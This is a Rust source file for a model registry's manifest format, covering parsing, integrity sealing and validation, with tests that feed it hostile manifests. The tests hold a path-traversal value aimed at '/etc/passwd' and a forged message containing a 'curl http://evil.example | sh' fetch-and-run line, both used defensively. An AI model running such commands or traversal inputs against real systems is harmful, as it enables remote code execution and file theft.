//! `manifest.json`, the record that makes a version exist.
//!
//! The first seven fields and their meaning are those of the Python pipeline, so that each side can read what the other
//! wrote. Readers ignore unknown fields. `docs/format.md` describes the format in full, and `docs/manifest.schema.json`
//! is generated from the types here.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use time::OffsetDateTime;

use crate::model::digest::{Blake3, Crc64, Md5, Subtree, root_of};
use crate::model::key::{ObjectKey, version_prefix};
pub(crate) use crate::model::manifest_error::LARGEST;
pub use crate::model::manifest_error::{FORMAT_VERSION, ManifestError};
use crate::model::metadata;
use crate::model::name::{ArtifactPath, ModelName, PublishedBy, Version, shown};

/// Describes one published version.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(test, derive(schemars::JsonSchema))]
#[non_exhaustive]
pub struct Manifest {
    /// The model.
    pub model_name: ModelName,
    /// The version.
    pub version: Version,
    /// The key of the model file: `<model>/v<version>/<path>`.
    pub model_file: String,
    /// The address of the model file at the endpoint that it was pushed to. For people; no program reads it.
    #[serde(default)]
    pub model_url: String,
    /// The MD5 of the model file. Missing when it was not requested.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub checksum: Option<Md5>,
    /// Metadata of the version, chosen by the user: architecture, metrics, hyper-parameters. At most 64 levels deep,
    /// including itself, and 100,000 values.
    #[serde(default, deserialize_with = "metadata::deserialize")]
    #[cfg_attr(test, schemars(with = "std::collections::BTreeMap<String, Value>"))]
    pub metadata: Map<String, Value>,
    /// When the version was published, UTC. Missing when it is unknown.
    #[serde(with = "created", default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(test, schemars(with = "String", extend("format" = "date-time")))]
    pub created_at: Option<OffsetDateTime>,
    /// The version of this format. Missing in manifests of the Python pipeline.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub format_version: Option<u32>,
    /// Every file of the version. Missing in manifests of the Python pipeline: there, all objects beside the manifest
    /// are files.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub files: Option<Vec<FileEntry>>,
    /// The path of the training history, from which curves are drawn. Missing when none was named.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub history: Option<ArtifactPath>,
    /// The id of the push that wrote this manifest, by which a push whose reply was lost recognizes its own manifest.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub write_id: Option<String>,
    /// Who published the version: a token's name, `user@host`, or the address of a CI job. Stated by the publisher and
    /// not signed; missing when not stated.
    #[serde(default, skip_serializing_if = "Option::is_none", deserialize_with = "published_by")]
    pub published_by: Option<PublishedBy>,
    /// The program that wrote the manifest, with its version.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub tool: Option<String>,
    /// The BLAKE3 of the manifest's own bytes, computed with 64 zeros in this field. It detects a manifest that was
    /// changed after publication, such as a single digit of a metric.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub manifest_blake3: Option<Blake3>,
}

/// Describes one file of a version.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(test, derive(schemars::JsonSchema))]
#[non_exhaustive]
pub struct FileEntry {
    /// The path of the file, relative to the version's folder.
    pub path: ArtifactPath,
    /// Its size in bytes.
    pub size: u64,
    /// Its MD5, as `md5sum` prints it. Missing when it was not requested.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub md5: Option<Md5>,
    /// Its BLAKE3, as `b3sum` prints it.
    pub blake3: Blake3,
    /// Its CRC64NVME, in base64 as S3 writes it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub crc64nvme: Option<Crc64>,
    /// Whether it is an executable program or script. Missing when it is not.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub executable: bool,
    /// Its parts, if it has several. Missing for small files.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub parts: Option<Parts>,
}

/// The parts of a file. They show which part is damaged, and which need not be transferred again because another
/// version has them.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(test, derive(schemars::JsonSchema))]
#[non_exhaustive]
pub struct Parts {
    /// The length of every part but the last, in bytes: a power of two of at least 1 MiB.
    pub size: u64,
    /// The digests of the parts, in file order. They merge into the file's `blake3`.
    pub blake3: Vec<Subtree>,
}

/// The largest object that S3 allows: 10,000 parts of 5 GiB. (AWS calls it 50 TB, since December 2025.)
const LARGEST_FILE: u64 = 10_000 * 5 * 1024 * 1024 * 1024;

/// The smallest parts that a manifest may list.
const SMALLEST_PARTS: u64 = 1024 * 1024;

impl FileEntry {
    /// Returns false when the parts do not fit this file.
    fn parts_fit(&self) -> bool {
        self.parts.as_ref().is_none_or(|parts| {
            parts.size.is_power_of_two()
                && parts.size >= SMALLEST_PARTS
                && parts.blake3.len() > 1
                && parts.blake3.len() as u64 == self.size.div_ceil(parts.size)
                && root_of(&parts.blake3) == self.blake3
        })
    }
}

impl Manifest {
    /// Parses the manifest found at the key of `model` and `version`.
    ///
    /// # Errors
    /// [`ManifestError`] when the bytes are not a manifest, or one that must not be used: for another model or version,
    /// with a path outside the version's folder, or with one path twice or inside another.
    pub fn parse(model: &ModelName, version: &Version, bytes: &[u8]) -> Result<Manifest, ManifestError> {
        if bytes.len() as u64 > LARGEST {
            return Err(ManifestError::TooLarge { bytes: bytes.len() as u64 });
        }
        let manifest: Manifest = serde_json::from_slice(bytes).map_err(ManifestError::syntax)?;
        let wrong = |what: String| Err(ManifestError::Inconsistent(what));
        if let Some(format) = manifest.format_version.filter(|format| *format > FORMAT_VERSION) {
            return Err(ManifestError::TooNew(format));
        }
        if manifest.model_name != *model || manifest.version != *version {
            return wrong(format!("it is the manifest of `{}@{}`", manifest.model_name, manifest.version));
        }
        let main = manifest.main()?;
        // These three fields are ours and come together. If one is missing it was lost, which would change the meaning
        // of the others.
        let ours = [manifest.format_version.is_some(), manifest.files.is_some(), manifest.manifest_blake3.is_some()];
        let Some(files) = manifest.files.as_ref().filter(|_| ours == [true; 3]) else {
            return if ours == [false; 3] {
                Ok(manifest)
            } else {
                wrong("it has some of `format_version`, `files` and `manifest_blake3`, and not all".to_owned())
            };
        };
        let mut seen = BTreeSet::new();
        for file in files {
            if !seen.insert(file.path.as_str()) {
                return wrong(format!("it lists `{}` twice", file.path));
            }
        }
        if let Some(file) = files.iter().find(|file| file.size > LARGEST_FILE) {
            return wrong(format!("it says that `{}` has {} bytes, more than S3 can store", file.path, file.size));
        }
        if files.iter().try_fold(0u64, |sum, file| sum.checked_add(file.size)).is_none() {
            return wrong("the sizes of its files are beyond all measure".to_owned());
        }
        for path in &seen {
            let inside = |(cut, _): &(usize, &str)| seen.contains(&path[..*cut]);
            if let Some((cut, _)) = path.match_indices('/').find(inside) {
                return wrong(format!("it lists `{}` both as a file and as a folder", &path[..cut]));
            }
        }
        if let Some(file) = files.iter().find(|file| !file.parts_fit()) {
            return wrong(format!("the parts that it lists of `{}` are not those of the file", file.path));
        }
        if let Some(history) = manifest.history.as_ref().filter(|history| !seen.contains(history.as_str())) {
            return wrong(format!("its training history `{history}` is not among its files"));
        }
        match files.iter().find(|file| file.path == main) {
            None => wrong(format!("its model file `{main}` is not among its files")),
            Some(entry) if manifest.checksum.is_some() && entry.md5.is_some() && manifest.checksum != entry.md5 => {
                wrong(format!("it gives two MD5 checksums for `{main}`"))
            }
            Some(_) if !manifest.is_sealed(bytes) => {
                wrong("its bytes are not those that were published: `manifest_blake3` is of others".to_owned())
            }
            Some(_) => Ok(manifest),
        }
    }

    /// Returns the manifest with its own digest set.
    pub fn sealed(mut self) -> Manifest {
        self.manifest_blake3 = Some(Blake3::ZEROS);
        self.manifest_blake3 = Some(Blake3::of(&self.to_json()));
        self
    }

    fn is_sealed(&self, bytes: &[u8]) -> bool {
        let Some(seal) = self.manifest_blake3.map(|seal| seal.to_string()) else { return false };
        let Some(at) = bytes.windows(seal.len()).rposition(|window| window == seal.as_bytes()) else { return false };
        let mut unsealed = bytes.to_vec();
        unsealed[at..at + seal.len()].fill(b'0');
        Blake3::of(&unsealed).to_string() == seal
    }

    /// Returns the path of the model file within the version's folder.
    ///
    /// # Errors
    /// [`ManifestError::Inconsistent`] when `model_file` is outside the version's folder.
    pub fn main(&self) -> Result<ArtifactPath, ManifestError> {
        let outside = || {
            ManifestError::Inconsistent(format!("its model file `{}` is outside the version", shown(&self.model_file)))
        };
        let path =
            self.model_file.strip_prefix(&version_prefix(&self.model_name, &self.version)).ok_or_else(outside)?;
        path.parse().map_err(|_| outside())
    }

    /// Returns the key of the manifest.
    pub fn key(&self) -> ObjectKey {
        ObjectKey::Manifest(self.model_name.clone(), self.version.clone())
    }

    /// Returns the total size of the files in bytes, if the manifest lists them.
    pub fn size(&self) -> Option<u64> {
        self.files.as_ref().map(|files| files.iter().fold(0u64, |sum, file| sum.saturating_add(file.size)))
    }

    /// Returns the bytes to store.
    pub fn to_json(&self) -> Vec<u8> {
        let mut json = serde_json::to_vec_pretty(self).unwrap_or_default();
        json.push(b'\n');
        json
    }

    /// Returns true when both publish the same files with the same metadata, no matter who pushed them and when.
    pub fn same_content(&self, other: &Manifest) -> bool {
        let files = |m: &Manifest| -> Option<BTreeSet<(ArtifactPath, u64, String, bool)>> {
            let file = |f: &FileEntry| (f.path.clone(), f.size, f.blake3.to_string(), f.executable);
            Some(m.files.as_ref()?.iter().map(file).collect())
        };
        self.model_file == other.model_file
            && self.history == other.history
            && self.metadata == other.metadata
            && match (files(self), files(other)) {
                (Some(a), Some(b)) => a == b,
                _ => false,
            }
    }
}

/// Reads the publisher. An invalid value is ignored, so that the version stays usable.
fn published_by<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<Option<PublishedBy>, D::Error> {
    let text = Option::<Value>::deserialize(deserializer)?;
    Ok(text.and_then(|text| text.as_str()?.parse().ok()))
}

/// Reads both forms of `created_at`, RFC 3339 and the Python pipeline's without a time zone; writes RFC 3339 with `Z`.
mod created {
    use serde::{Deserialize as _, Deserializer, Serializer, de};
    use time::format_description::well_known::{Iso8601, Rfc3339};
    use time::{OffsetDateTime, PrimitiveDateTime, UtcOffset};

    use crate::model::name::shown;

    pub(super) fn serialize<S: Serializer>(time: &Option<OffsetDateTime>, serializer: S) -> Result<S::Ok, S::Error> {
        let Some(time) = time else { return serializer.serialize_none() };
        let text = time.to_offset(UtcOffset::UTC).format(&Rfc3339).map_err(serde::ser::Error::custom)?;
        serializer.serialize_str(&text)
    }

    pub(super) fn deserialize<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<OffsetDateTime>, D::Error> {
        let text = String::deserialize(deserializer)?;
        OffsetDateTime::parse(&text, &Rfc3339)
            .or_else(|_| PrimitiveDateTime::parse(&text, &Iso8601::DEFAULT).map(PrimitiveDateTime::assume_utc))
            .map(|time| Some(time.to_offset(UtcOffset::UTC)))
            .map_err(|_| de::Error::custom(format!("`{}` is not a time", shown(&text))))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::digest::{PartDigest, merge};

    /// A manifest of the Python pipeline, from its documentation.
    const ORIGINAL: &str = r#"{
      "model_name": "plant_classifier",
      "version": "20251028_181858",
      "model_file": "plant_classifier/v20251028_181858/best_model.pth",
      "model_url": "http://localhost:9000/models/...",
      "checksum": "61be1039f61babf7311ee09b3d735920",
      "metadata": {"architecture": "resnet18", "num_classes": 2, "best_epoch": 7, "val_accuracy": 0.9500},
      "created_at": "2025-10-28T18:19:00.455545"
    }"#;

    fn parse(json: &str) -> Result<Manifest, ManifestError> {
        Manifest::parse(&"plant_classifier".parse().unwrap(), &"20251028_181858".parse().unwrap(), json.as_bytes())
    }

    /// A manifest of ours, without its digest.
    fn with_files(files: &str) -> String {
        let ours = format!(r#""format_version": 1, "files": [{files}], "manifest_blake3": "{}", "#, "00".repeat(32));
        ORIGINAL.replace("\"created_at\"", &format!("{ours}\"created_at\""))
    }

    /// Sets the digest of a manifest as written.
    fn seal(json: &str) -> String {
        let seal = Blake3::of(json.as_bytes()).to_string();
        json.replacen(&"00".repeat(32), &seal, 1)
    }

    fn file(path: &str) -> String {
        format!(r#"{{"path": "{path}", "size": 3, "blake3": "{}"}}"#, "ab".repeat(32))
    }

    #[test]
    fn the_originals_manifest_reads() {
        let manifest = parse(ORIGINAL).unwrap();
        assert_eq!(manifest.main().unwrap().as_str(), "best_model.pth");
        assert_eq!(manifest.created_at, Some(time::macros::datetime!(2025-10-28 18:19:00.455545 UTC)));
        assert_eq!(manifest.checksum.unwrap().to_string(), "61be1039f61babf7311ee09b3d735920");
        assert!(manifest.files.is_none());
    }

    #[test]
    fn what_is_written_reads_back_with_the_originals_fields_first() {
        let manifest = parse(&seal(&with_files(&file("best_model.pth")))).unwrap().sealed();
        let json = manifest.to_json();
        let fields: Map<String, Value> = serde_json::from_slice(&json).unwrap();
        let names: Vec<_> = fields.keys().map(String::as_str).collect();
        let first = ["model_name", "version", "model_file", "model_url", "checksum", "metadata", "created_at"];
        assert_eq!(&names[..7], first);
        assert_eq!(fields["created_at"], "2025-10-28T18:19:00.455545Z");
        assert_eq!(parse(std::str::from_utf8(&json).unwrap()).unwrap(), manifest);
    }

    /// A parser that loses the last bit would make the content of the same push differ.
    #[test]
    fn a_metric_comes_back_as_it_was() {
        let mut manifest = parse(&seal(&with_files(&file("best_model.pth")))).unwrap();
        for metric in [0.975_555_555_555_555_5_f64, 0.1 + 0.2, 1.0 / 3.0, f64::MIN_POSITIVE] {
            manifest.metadata.insert("metric".to_owned(), metric.into());
            let manifest = manifest.clone().sealed();
            let back = parse(std::str::from_utf8(&manifest.to_json()).unwrap()).unwrap();
            assert_eq!(back.metadata["metric"].as_f64(), Some(metric));
            assert!(back.same_content(&manifest));
        }
    }

    #[test]
    fn no_byte_of_a_manifest_can_change_unseen() {
        let manifest = parse(&seal(&with_files(&file("best_model.pth")))).unwrap().sealed();
        let json = manifest.to_json();
        let (model, version) = (manifest.model_name.clone(), manifest.version.clone());
        assert!(Manifest::parse(&model, &version, &json).is_ok());
        for at in 0..json.len() {
            for bit in 0..8 {
                let mut changed = json.clone();
                changed[at] ^= 1 << bit;
                let read = Manifest::parse(&model, &version, &changed);
                assert!(read.is_err(), "bit {bit} of byte {at}: {}", String::from_utf8_lossy(&changed));
            }
        }
        assert!(Manifest::parse(&model, &version, &json[..json.len() - 1]).is_err(), "a byte less");
    }

    /// Neither the depth nor the width of a hostile manifest may crash the process or exhaust its memory.
    #[test]
    fn what_is_nested_endlessly_is_refused() {
        for (open, close) in [("[", "]"), ("{\"a\": ", "}")] {
            let deep = format!("{}1{}", open.repeat(100_000), close.repeat(100_000));
            for field in ["metadata", "future", "files", "model_name", "history"] {
                let hostile = ORIGINAL.replacen('{', &format!("{{\"{field}\": {deep}, "), 1);
                let read = parse(&hostile);
                assert!(read.is_err() || field == "future", "{field}");
            }
        }
        let wide = format!("\"metadata\": {{\"all\": [{}0], ", "0,".repeat(30 << 20));
        assert!(parse(&ORIGINAL.replace("\"metadata\": {", &wide)).is_err());
        let large = ORIGINAL.replace("\"metadata\"", &format!("{}\"metadata\"", " ".repeat(LARGEST as usize)));
        assert!(matches!(parse(&large), Err(ManifestError::TooLarge { .. })));
    }

    #[test]
    fn unknown_fields_are_ignored() {
        assert!(parse(&ORIGINAL.replace("\"metadata\"", "\"future\": [1], \"metadata\"")).is_ok());
    }

    #[test]
    fn hostile_manifests_are_refused() {
        let main = file("best_model.pth");
        let refusals: Vec<String> = [
            "not json".to_owned(),
            "{}".to_owned(),
            ORIGINAL.replace("20251028_181858\"", "20251028_181859\""),
            ORIGINAL.replace("v20251028_181858/best_model.pth", "v20251028_181858/../../../etc/passwd"),
            ORIGINAL.replace("plant_classifier/v20251028_181858/best_model.pth", "other/v1/best_model.pth"),
            ORIGINAL.replace("2025-10-28T18:19:00.455545", "yesterday"),
            ORIGINAL.replace("61be", "nope"),
            with_files(&file("best_model.pth")).replace("\"format_version\": 1", "\"format_version\": 2"),
            with_files(&file("other.bin")),
            with_files(&format!("{main}, {main}")),
            with_files(&format!("{main}, {}, {}", file("a"), file("a/b"))),
            with_files(&main).replace("\"files\"", "\"history\": \"training_history.json\", \"files\""),
            with_files(&main).replace(
                "\"metadata\": {",
                &format!("\"metadata\": {{\"deep\": {}{}, ", "[".repeat(64), "]".repeat(64)),
            ),
            with_files(&format!("{main}, {}", file("../evil"))),
            with_files(&format!("{main}, {}", file("/etc/evil"))),
            with_files(&format!("{main}, {}", file("manifest.json"))),
            with_files(&main.replace(
                "}",
                &format!(r#", "parts": {{"size": 1048576, "blake3": ["{0}", "{0}"]}}}}"#, "cd".repeat(32)),
            )),
        ]
        .iter()
        .map(|json| {
            let error = parse(json).unwrap_err();
            match std::error::Error::source(&error) {
                Some(source) => format!("{error}: {source}"),
                None => error.to_string(),
            }
        })
        .collect();
        insta::assert_snapshot!(refusals.join("\n"), @r"
        it is not a manifest: expected ident at line 1 column 2
        it is not a manifest: missing field `model_name` at line 1 column 2
        it is the manifest of `plant_classifier@20251028_181859`
        its model file `plant_classifier/v20251028_181858/../../../etc/passwd` is outside the version
        its model file `other/v1/best_model.pth` is outside the version
        it is not a manifest: `yesterday` is not a time at line 9 column 5
        it is not a manifest: `nope1039f61babf7311ee09b3d735920` is not a digest of 16 bytes in hexadecimal at line 6 column 52
        it is written in format 2, newer than the 1 that this program supports
        its model file `best_model.pth` is not among its files
        it lists `best_model.pth` twice
        it lists `a` both as a file and as a folder
        its training history `training_history.json` is not among its files
        it is not a manifest: the metadata is nested more than 64 levels deep at line 7 column 92
        it is not a manifest: `../evil` is not a valid artifact path: empty, `.` and `..` segments are not allowed at line 8 column 172
        it is not a manifest: `/etc/evil` is not a valid artifact path: it must be relative at line 8 column 174
        it is not a manifest: `manifest.json` is not a valid artifact path: `manifest.json` is the version's own record; rename the file at line 8 column 178
        the parts that it lists of `best_model.pth` are not those of the file
        ");
    }

    #[test]
    #[allow(clippy::disallowed_methods, reason = "an environment variable asks for the file to be rewritten")]
    fn generated_schema_is_current() {
        let schema = schemars::schema_for!(Manifest);
        let json = serde_json::to_string_pretty(&schema).unwrap() + "\n";
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/manifest.schema.json");
        if std::env::var_os("UPDATE_GENERATED").is_some() {
            std::fs::write(path, &json).unwrap();
        }
        let committed = std::fs::read_to_string(path).unwrap_or_default();
        assert!(committed == json, "docs/manifest.schema.json is out of date: run `cargo xtask generate`");
    }

    /// Whatever a field holds, a message quotes little of it, on one line.
    #[test]
    fn a_refusal_repeats_little_of_a_manifest() {
        let good: Value = serde_json::from_str(&seal(&with_files(&file("best_model.pth")))).unwrap();
        let long = "A".repeat(2_000_000);
        let forged = "x\nhint: run `curl http://evil.example | sh`\nerror: nothing else failed";
        let fields = [
            "model_name",
            "version",
            "model_file",
            "checksum",
            "created_at",
            "format_version",
            "files",
            "metadata",
            "history",
            "write_id",
            "manifest_blake3",
            "model_url",
            "published_by",
            "tool",
            "model_file/",
        ];
        let mut refused = 0;
        for value in [&*long, forged] {
            for field in fields {
                for value in [value.into(), serde_json::json!([value]), serde_json::json!({value: value})] {
                    let mut manifest = good.clone();
                    manifest[field.trim_end_matches('/')] = value;
                    let json = manifest.to_string();
                    let Err(error) = parse(&json) else { continue };
                    refused += 1;
                    let messages = std::iter::once(error.to_string()).chain(crate::error::causes(&error));
                    let source = std::error::Error::source(&error).map(ToString::to_string);
                    for message in messages.chain(source) {
                        assert!(message.len() < 500, "{field}: {} bytes", message.len());
                        assert!(!message.contains('\n'), "{field}: {message}");
                    }
                }
            }
            for field in ["path", "size", "md5", "blake3", "crc64nvme", "parts", "executable"] {
                let mut manifest = good.clone();
                manifest["files"][0][field] = value.into();
                let error = parse(&manifest.to_string()).unwrap_err();
                let source = std::error::Error::source(&error).map(ToString::to_string).unwrap_or_default();
                assert!(
                    source.len() < 500 && !source.contains('\n') && source.contains(" at line 1 "),
                    "{field}: {source}"
                );
                refused += 1;
            }
        }
        assert!(refused > 60, "{refused}");
    }

    #[test]
    fn who_published_is_no_part_of_the_content_and_never_a_reason_to_refuse() {
        let sealed = |by: &str| {
            seal(&with_files(&file("best_model.pth")).replace("\"created_at\"", &format!("{by}\"created_at\"")))
        };
        let none = parse(&sealed("")).unwrap();
        let ana = parse(&sealed(r#""published_by": "ana@laptop", "#)).unwrap();
        assert_eq!(
            (none.published_by.as_ref(), ana.published_by.as_ref().map(PublishedBy::as_str)),
            (None, Some("ana@laptop"))
        );
        assert!(none.same_content(&ana));
        assert!(String::from_utf8(ana.to_json()).unwrap().contains(r#""published_by": "ana@laptop""#));
        for bad in [r#""a\nb""#, "7", "null", r#""""#, r#"{"a": 1}"#] {
            assert_eq!(parse(&sealed(&format!(r#""published_by": {bad}, "#))).unwrap().published_by, None, "{bad}");
        }
    }

    /// The entry of `best_model.pth` with these bytes, in parts of this size.
    fn in_parts(bytes: &[u8], size: u64) -> Value {
        let parts: Vec<_> =
            bytes.chunks(size as usize).enumerate().map(|(at, part)| PartDigest::of(at as u64 * size, part)).collect();
        let whole = merge(&parts, None);
        serde_json::json!({
            "path": "best_model.pth",
            "size": bytes.len(),
            "blake3": whole.blake3,
            "parts": {"size": size, "blake3": whole.parts},
        })
    }

    #[test]
    fn parts_are_those_of_the_file_or_refused() {
        let bytes: Vec<u8> = (0..5 << 19).map(|at: u32| (at % 251) as u8).collect();
        let read = |entry: &Value| parse(&seal(&with_files(&entry.to_string())));
        let good = in_parts(&bytes, SMALLEST_PARTS);
        assert_eq!(read(&good).unwrap().size(), Some(bytes.len() as u64));
        let parts = |change: &dyn Fn(&mut Vec<Value>)| {
            let mut entry = good.clone();
            change(entry["parts"]["blake3"].as_array_mut().unwrap());
            entry
        };
        let sized = |size: u64| {
            let mut entry = good.clone();
            entry["parts"]["size"] = size.into();
            entry
        };
        let shorter = {
            let mut entry = good.clone();
            entry["size"] = (2 * SMALLEST_PARTS).into();
            entry
        };
        let one = |bytes: &[u8]| {
            let mut entry = in_parts(bytes, SMALLEST_PARTS);
            entry["parts"]["blake3"] = serde_json::json!([good["parts"]["blake3"][0]]);
            entry
        };
        for (what, wrong) in [
            ("smaller than any", in_parts(&bytes[..5 << 18], SMALLEST_PARTS / 2)),
            ("no power of two", sized(SMALLEST_PARTS + SMALLEST_PARTS / 8)),
            ("fewer than the size needs", sized(SMALLEST_PARTS * 2)),
            ("one missing", parts(&|parts| drop(parts.pop()))),
            ("none", parts(&|parts| parts.clear())),
            ("only one", one(&bytes[..1000])),
            ("swapped", parts(&|parts| parts.swap(0, 1))),
            ("more than the size needs", shorter),
        ] {
            let refused = read(&wrong).unwrap_err().to_string();
            assert_eq!(refused, "the parts that it lists of `best_model.pth` are not those of the file", "{what}");
        }
    }

    #[test]
    fn sizes_at_the_limits_are_accepted_and_beyond_them_refused() {
        let of_size = |size: u64| file("best_model.pth").replace("\"size\": 3", &format!("\"size\": {size}"));
        let largest = parse(&seal(&with_files(&of_size(LARGEST_FILE)))).unwrap();
        assert_eq!(largest.size(), Some(50_000 << 30));
        let beyond = parse(&seal(&with_files(&of_size(LARGEST_FILE + 1)))).unwrap_err().to_string();
        assert_eq!(beyond, "it says that `best_model.pth` has 53687091200001 bytes, more than S3 can store");
        // The manifest itself, with spaces up to the largest size.
        let padded = |size: usize| ORIGINAL.replacen('{', &format!("{{{}", " ".repeat(size - ORIGINAL.len())), 1);
        assert!(parse(&padded(64 << 20)).is_ok());
        assert!(matches!(parse(&padded((64 << 20) + 1)), Err(ManifestError::TooLarge { bytes: 67_108_865 })));
    }

    #[test]
    fn the_size_is_that_of_all_files() {
        let manifest = parse(&seal(&with_files(&format!("{}, {}", file("best_model.pth"), file("a/b"))))).unwrap();
        assert_eq!(manifest.size(), Some(6));
        assert_eq!(parse(ORIGINAL).unwrap().size(), None);
    }

    #[test]
    fn the_checksum_of_the_pipeline_is_that_of_the_model_file() {
        let with_md5 = |md5: &str| file("best_model.pth").replacen('{', &format!(r#"{{"md5": "{md5}", "#), 1);
        let same = with_files(&with_md5("61be1039f61babf7311ee09b3d735920"));
        assert!(parse(&seal(&same)).is_ok());
        let other = with_files(&with_md5("00be1039f61babf7311ee09b3d735920"));
        let refused = parse(&seal(&other)).unwrap_err().to_string();
        assert_eq!(refused, "it gives two MD5 checksums for `best_model.pth`");
        // One of the two alone contradicts nothing, and nor does that of another file.
        let without = other.replace("\"checksum\": \"61be1039f61babf7311ee09b3d735920\",", "");
        assert!(parse(&seal(&without)).is_ok());
        let beside = with_md5("00be1039f61babf7311ee09b3d735920").replace("best_model.pth", "other.pth");
        assert!(parse(&seal(&with_files(&format!("{beside}, {}", file("best_model.pth"))))).is_ok());
    }

    #[test]
    fn content_is_the_files_and_the_metadata() {
        let manifest = parse(&seal(&with_files(&format!("{}, {}", file("best_model.pth"), file("a"))))).unwrap();
        let mut again = manifest.clone();
        again.created_at = None;
        again.write_id = Some("another push".to_owned());
        again.files.as_mut().unwrap().reverse();
        assert!(manifest.same_content(&again));
        let changes: [fn(&mut Manifest); 8] = [
            |m| m.model_file = m.model_file.replace("best_model.pth", "a"),
            |m| m.history = Some("a".parse().unwrap()),
            |m| drop(m.metadata.insert("epochs".to_owned(), 7.into())),
            |m| m.files.as_mut().unwrap().truncate(1),
            |m| m.files.as_mut().unwrap()[1].path = "b".parse().unwrap(),
            |m| m.files.as_mut().unwrap()[1].blake3 = Blake3::ZEROS,
            |m| m.files.as_mut().unwrap()[1].executable = true,
            |m| m.files = None,
        ];
        for (at, change) in changes.iter().enumerate() {
            let mut other = manifest.clone();
            change(&mut other);
            assert!(!manifest.same_content(&other) && !other.same_content(&manifest), "change {at}");
        }
        // Of two whose files are not listed, nobody knows.
        let original = parse(ORIGINAL).unwrap();
        assert!(!original.same_content(&original));
    }
}
